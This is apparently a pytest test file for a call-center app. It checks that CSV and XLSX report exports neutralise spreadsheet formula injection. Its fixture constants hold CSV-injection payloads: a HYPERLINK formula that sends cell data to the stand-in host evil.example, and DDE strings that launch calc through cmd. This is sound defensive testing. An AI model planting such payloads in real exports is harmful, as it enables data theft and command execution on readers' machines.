"""Names and notes that look like spreadsheet formulas stay text in every
export: CSV cells get a leading apostrophe, XLSX cells are strings (no <f>
element anywhere in the workbook); numbers and phone numbers stay as they are."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from sqlalchemy import select

from callcenter.db import Database
from callcenter.models import Campaign, DncEntry, LeadList, StepOutcome, Team, User
from callcenter.services import dnc
from callcenter.services.exports import start_export
from callcenter.services.exports.cells import csv_text
from callcenter.services.reports import ReportFilters
from tests.integration.reports.report_dataset import Dataset, build

CAMPAIGN = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
AGENT = "+cmd|' /C calc'!A0"
LEAD_LIST = "-2+3+cmd|' /C calc'!A0"
TEAM = "@SUM(1+1)*cmd|' /C calc'!A0"
REJECTION = "=1+1"
DNC_REASON = "\t=2+5"


@pytest.fixture
def hostile(database: Database) -> Dataset:
    with database.unit_of_work() as session:
        data = build(session)
        session.get(Campaign, data.campaigns["C1"].id).name = CAMPAIGN  # type: ignore[union-attr]
        session.get(User, data.users["a1"].id).full_name = AGENT  # type: ignore[union-attr]
        session.get(LeadList, data.lists["L1"].id).name = LEAD_LIST  # type: ignore[union-attr]
        team = session.scalar(select(Team).where(Team.name == "Team A"))
        assert team is not None
        team.name = TEAM
        rejection = session.scalar(
            select(StepOutcome).where(
                StepOutcome.call_id == data.calls["k7"].id,
                StepOutcome.reason_code.is_not(None),
            )
        )
        assert rejection is not None
        rejection.reason_text = REJECTION
    return data


def export(database: Database, kind: str, fmt: str, span: ReportFilters) -> bytes:
    started = start_export(database, kind=kind, fmt=fmt, filters=span, locale="en", actor_id=None)
    return b"".join(started.chunks)


def csv_records(body: bytes) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_csv_cells_that_start_like_formulas_get_an_apostrophe() -> None:
    for text in ("=1+1", "+cmd", "-cmd", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"):
        assert csv_text(text) == "'" + text
    for kept in ("Sara Ahmadi", "", "a=b", " =1", "+989121234567", "-12", "2.5"):
        assert csv_text(kept) == kept
    for number in (3, -3, 2.5, None):
        assert csv_text(number) == number


def test_call_records_csv_neutralises_hostile_names(
    database: Database, hostile: Dataset, span: ReportFilters
) -> None:
    records = {row["Call ID"]: row for row in csv_records(export(database, "calls", "csv", span))}
    k7 = records[hostile.calls["k7"].id]
    assert k7["Campaign"] == "'" + CAMPAIGN
    assert k7["Rejection reason"] == "already_supplier: =1+1"  # starts with the label: safe
    a1_rows = [row for row in records.values() if row["Agent"] == "'" + AGENT]
    assert a1_rows, "agent a1's calls carry the neutralised name"
    assert any(row["Lead list"] == "'" + LEAD_LIST for row in records.values())
    for row in records.values():
        assert re.fullmatch(r"\+[0-9]+", row["Phone"]), row["Phone"]  # a phone is no formula
        assert row["Attempt"].isdigit()
        assert not [v for v in row.values() if v[:1] and v[0] in "=+-@\t\r" and v != row["Phone"]]


def test_agent_report_csv_neutralises_agent_and_team_names(
    database: Database, hostile: Dataset, span: ReportFilters
) -> None:
    rows = list(
        csv.reader(io.StringIO(export(database, "agents", "csv", span).decode("utf-8-sig")))
    )
    header = rows[1]
    a1 = dict(zip(header, next(row for row in rows if row and row[0] == "'" + AGENT), strict=True))
    assert a1["Team"] == "'" + TEAM
    assert a1["Calls"] == "3"


def test_xlsx_writes_hostile_text_as_string_cells(
    database: Database, hostile: Dataset, span: ReportFilters
) -> None:
    body = export(database, "calls", "xlsx", span)
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name), f"{name} holds a formula"
    book = openpyxl.load_workbook(io.BytesIO(body))
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    cells = {
        row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)
    }
    k7 = cells[hostile.calls["k7"].id]
    assert (k7["Campaign"].value, k7["Campaign"].data_type) == (CAMPAIGN, "s")
    assert (k7["Attempt"].value, k7["Attempt"].data_type) == (1, "n")
    assert k7["Talk (s)"].value == 200
    agents = [row["Agent"] for row in cells.values() if row["Agent"].value == AGENT]
    assert agents and all(cell.data_type == "s" for cell in agents)


def test_dnc_export_neutralises_reasons(database: Database, hostile: Dataset) -> None:
    with database.unit_of_work() as session:
        session.add(
            DncEntry(
                phone_e164="+989121110000",
                campaign_id=hostile.campaigns["C1"].id,
                source="manual",
                reason=DNC_REASON,
            )
        )
    with database.read_sessions() as session:
        body = dnc.export_csv(session, campaign_id=hostile.campaigns["C1"].id)
    rows = list(csv.reader(io.StringIO(body)))
    entry = next(row for row in rows if row[0] == "+989121110000")
    assert entry[1] == "'" + CAMPAIGN
    assert entry[3] == "'" + DNC_REASON
